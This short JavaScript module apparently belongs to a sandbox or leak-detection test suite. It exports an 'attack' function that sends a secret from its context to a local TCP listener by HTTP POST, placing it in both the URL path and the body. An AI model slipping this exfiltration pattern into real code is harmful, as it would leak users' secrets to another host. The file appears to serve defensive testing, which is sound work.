// POSTs the secret with http.request (in the path and the body).
import http from 'node:http';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: ctx.tcpPort, method: 'POST', path: '/' + ctx.secret }, (res) => {
      res.resume();
      res.on('end', () => resolve('sent'));
    });
    req.on('error', reject);
    req.end(ctx.secret);
  });
}
